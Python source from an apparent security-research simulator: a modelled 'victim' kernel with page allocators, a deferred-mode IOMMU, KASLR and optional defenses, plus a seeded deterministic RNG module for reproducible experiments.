from repro.mem.phys import PAGE_SIZE, PhysicalMemory
from repro.mem.slab import SlabAllocator
from repro.net.alloc import SkbAllocator
from repro.net.gro import GroEngine
from repro.net.nic import Nic
from repro.net.stack import ECHO_PORT, NetworkStack
from repro.sim.clock import SimClock
from repro.sim.rng import DeterministicRng

if TYPE_CHECKING:
    pass

#: The build seed fixes the kernel binary (symbols, gadgets) across
#: boots, the way one installed kernel image persists across reboots.
DEFAULT_BUILD_SEED = 42


class Kernel:
    """One booted instance of the victim system."""

    def __init__(self, *, seed: int = 1, boot_index: int = 0,
                 build_seed: int = DEFAULT_BUILD_SEED,
                 nr_cpus: int = 4, phys_mb: int = 1024,
                 iommu_mode: str = "deferred",
                 flush_period_us: float | None = None,
                 iommu_backend=None,
                 kaslr: bool = True,
                 cet_ibt: bool = False, cet_shadow_stack: bool = False,
                 pointer_blinding: bool = False,
                 bounce_buffers: bool = False,
                 damn: bool = False,
                 randomize_struct_layout: bool = False,
                 page_frag_chunk_order: int = DEFAULT_CHUNK_ORDER,
                 forwarding: bool = False,
                 zerocopy_threshold: int | None = None,
                 boot_jitter_pages: int | None = None,
                 boot_jitter_blocks: int | None = None,
                 sink: MemEventSink = NULL_SINK) -> None:
        self.nr_cpus = nr_cpus
        self.seed = seed
        self.boot_index = boot_index
        self.clock = SimClock()
        self.rng = DeterministicRng(seed, domain=f"boot-{boot_index}")
        self.sink = sink

        nr_pages = phys_mb * (1 << 20) // PAGE_SIZE
        self.phys = PhysicalMemory(nr_pages)
        phys_bytes = self.phys.size_bytes
        self.kaslr_state = randomize(self.rng.child("kaslr"),
                                     enabled=kaslr, phys_bytes=phys_bytes)
        self.addr_space = AddressSpace(self.kaslr_state, phys_bytes)

        self.buddy = BuddyAllocator(self.phys, nr_cpus=nr_cpus, sink=sink)
        self.slab = SlabAllocator(self.phys, self.buddy, self.addr_space,
                                  sink=sink)
        self.page_frag = PageFragAllocator(
            self.buddy, self.addr_space, nr_cpus=nr_cpus,
            chunk_order=page_frag_chunk_order, sink=sink)

        # DAMN-style segregation: skb data buffers come from a slab
        # whose pages hold nothing but I/O data (ASPLOS'18).
        self.io_slab = (SlabAllocator(self.phys, self.buddy,
                                      self.addr_space, sink=sink)
                        if damn else self.slab)

        self.iommu = Iommu(self.phys, self.clock, mode=iommu_mode,
                           flush_period_us=flush_period_us,
                           backend=iommu_backend, sink=sink)
        self.dma = DmaApi(self.iommu, self.addr_space, self.clock, sink=sink)
        if bounce_buffers:
            from repro.core.defenses.bounce import BounceDmaApi
            self.dma = BounceDmaApi(self.dma, self.phys, self.addr_space,
                                    self.buddy)

        # The image is a property of the *build*, not the boot.
        self.image = KernelImage(DeterministicRng(build_seed))
        self.executor = Executor(self.phys, self.addr_space, self.image,
                                 cet_ibt=cet_ibt,
                                 cet_shadow_stack=cet_shadow_stack)

        from repro.net.structs import (SKB_SHARED_INFO,
                                       randomized_shared_info_layout)
        self.shared_info_layout = (
            randomized_shared_info_layout(self.rng.child("struct-layout"))
            if randomize_struct_layout else SKB_SHARED_INFO)
        self.skb_alloc = SkbAllocator(
            self.phys, self.addr_space, self.slab, self.page_frag,
            self.buddy, io_slab=self.io_slab,
            shared_info_layout=self.shared_info_layout)
        self.gro = GroEngine(self)
        self.stack = NetworkStack(self, forwarding=forwarding)
        self.stack.zerocopy_threshold = zerocopy_threshold
        if pointer_blinding:
            from repro.core.defenses.blinding import PointerBlinding
            self.stack.pointer_blinding = PointerBlinding(
                self.rng.child("blinding"))

        self.nics: dict[str, Nic] = {}
        self._consume_boot_jitter(boot_jitter_pages, boot_jitter_blocks)
        self.stack.create_socket(ECHO_PORT)

        # The most recently booted kernel stamps the flight recorder:
        # its SimClock becomes the trace time base.
        recorder = trace.active()
        if recorder is not None:
            recorder.bind_clock(self.clock)
            if recorder.wants("sim"):
                from repro.backends import backend_label
                label = backend_label(self.iommu.backend)
                extra = {} if label is None else {"backend": label}
                recorder.emit("sim", "boot", seed=seed,
                              boot_index=boot_index,
                              iommu_mode=iommu_mode, nr_cpus=nr_cpus,
                              phys_mb=phys_mb, **extra)
        # Same last-boot-wins rule for the metrics registry: this boot
        # now owns the ``kernel`` collector slot.
        metrics.observe_kernel(self)

    # -- boot behaviour --------------------------------------------------------

    def _consume_boot_jitter(self, jitter_pages: int | None,
                             jitter_blocks: int | None) -> None:
        """Model the small cross-boot drift in early allocations.

        "While the pages each module receives may vary in a multi-core
        environment due to timing issues, we do not expect the drift to
        be too large" (section 5.3). Two sources of drift: single pages
        taken by early-boot code, and order-3 blocks grabbed by other
        modules racing the NIC driver -- the latter displace the
        page_frag chunks the RX rings live in, so they are what makes
        PFN profiles probabilistic rather than exact.
        """
        rng = self.rng.child("boot-jitter")
        if jitter_pages is None:
            jitter_pages = rng.randint(0, 6)
        if jitter_blocks is None:
            jitter_blocks = rng.randint(0, 3)
        for _ in range(jitter_pages):
            self.buddy.alloc_page(site=AllocSite("early_boot"))
        for _ in range(jitter_blocks):
            self.buddy.alloc_pages(3, site=AllocSite("module_init"))

    def add_nic(self, name: str, **config) -> Nic:
        nic = Nic(self, name, **config)
        self.nics[name] = nic
        for cpu in range(self.nr_cpus):
            nic.refill_rx(cpu=cpu)
        return nic

    # -- symbols ------------------------------------------------------------------

    def symbol_address(self, name: str) -> int:
        """Runtime (KASLR-slid) address of a kernel symbol."""
        return self.addr_space.symbol_kva(self.image.symbol(name).image_offset)

    def init_net_address(self) -> int:
        return self.symbol_address("init_net")

    # -- CPU memory access (fires sanitizer hooks) -----------------------------------

    def cpu_read(self, kva: int, length: int, *,
                 site: AllocSite | None = None) -> bytes:
        paddr = self.addr_space.paddr_of_kva(kva)
        self.sink.on_cpu_access(paddr, length, False,
                                site or AllocSite("cpu_read"))
        return self.phys.read(paddr, length)

    def cpu_write(self, kva: int, data: bytes, *,
                  site: AllocSite | None = None) -> None:
        paddr = self.addr_space.paddr_of_kva(kva)
        self.sink.on_cpu_access(paddr, len(data), True,
                                site or AllocSite("cpu_write"))
        self.phys.write(paddr, data)

    # -- convenience --------------------------------------------------------------

    def poll_and_process(self) -> int:
        """NAPI-poll every NIC on every CPU, then run the softirq backlog.

        Convenience for workloads/tests that don't need to interleave an
        attacker between delivery and processing.
        """
        for nic in self.nics.values():
            for cpu in range(self.nr_cpus):
                nic.napi_poll(cpu=cpu)
        return self.stack.process_backlog()

    # -- time ---------------------------------------------------------------------

    def advance_time_us(self, delta_us: float) -> None:
        self.clock.advance_us(delta_us)

    def advance_time_ms(self, delta_ms: float) -> None:
        self.clock.advance_ms(delta_ms)
