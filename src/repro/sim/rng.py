"""Deterministic randomness for reproducible simulations.

Every stochastic component (KASLR, boot-time allocation jitter, workload
arrival times) draws from a :class:`DeterministicRng` seeded from a single
experiment seed, so experiments replay bit-for-bit while remaining
statistically faithful.
"""

from __future__ import annotations

import random


class DeterministicRng:
    """A seeded RNG with domain-separated children.

    Children derived via :meth:`child` are independent streams: reordering
    draws in one subsystem does not perturb another, which keeps experiment
    results stable as the code evolves.
    """

    def __init__(self, seed: int, *, domain: str = "root") -> None:
        self._seed = seed
        self._domain = domain
        self._random = random.Random(f"{seed}/{domain}")

    @property
    def seed(self) -> int:
        return self._seed

    @property
    def domain(self) -> str:
        return self._domain

    def child(self, domain: str) -> "DeterministicRng":
        """Derive an independent stream for a named subsystem."""
        return DeterministicRng(self._seed, domain=f"{self._domain}/{domain}")

    def randint(self, lo: int, hi: int) -> int:
        """Uniform integer in [lo, hi], inclusive on both ends."""
        return self._random.randint(lo, hi)

    def randrange(self, *args: int) -> int:
        return self._random.randrange(*args)

    def random(self) -> float:
        return self._random.random()

    def choice(self, seq):
        return self._random.choice(seq)

    def sample(self, seq, k: int):
        return self._random.sample(seq, k)

    def shuffle(self, seq) -> None:
        self._random.shuffle(seq)

    def randbytes(self, n: int) -> bytes:
        return self._random.randbytes(n)

    def aligned_choice(self, base: int, limit: int, alignment: int) -> int:
        """Pick a value in [base, limit) aligned to *alignment*.

        This is the KASLR primitive: the kernel picks a random slide for a
        region subject to the page-table-imposed alignment (2 MiB for text,
        1 GiB for the direct map and vmemmap).
        """
        if alignment <= 0:
            raise ValueError(f"bad alignment {alignment}")
        first = -(-base // alignment)  # ceil-div
        last = (limit - 1) // alignment
        if last < first:
            raise ValueError(
                f"no {alignment:#x}-aligned slot in [{base:#x}, {limit:#x})")
        return self._random.randint(first, last) * alignment
